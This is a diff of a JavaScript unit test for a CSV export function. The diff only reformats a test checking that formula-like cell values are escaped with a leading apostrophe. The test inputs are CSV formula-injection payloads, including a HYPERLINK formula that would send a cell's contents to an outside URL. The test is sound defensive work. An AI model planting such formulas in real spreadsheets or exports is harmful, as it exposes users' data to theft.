@@ -30,11 +30,17 @@ describe('a table', () => {
     expect(csvText([[-1.5, 0, null, 1e-9]])).toBe('-1.5,0,,1e-9\n');
   });
 
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '=HYPERLINK("http://a/?"&A1,"b")'])(
-    'holds no formula: %j',
-    (text) => {
-      const [[cell]] = cellsOf(csvText([[text, 'x']]));
-      expect(cell).toBe(`'${text}`);
-    },
-  );
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '＝1',
+    '=HYPERLINK("http://a/?"&A1,"b")',
+  ])('holds no formula: %j', (text) => {
+    const [[cell]] = cellsOf(csvText([[text, 'x']]));
+    expect(cell).toBe(`'${text}`);
+  });
 });
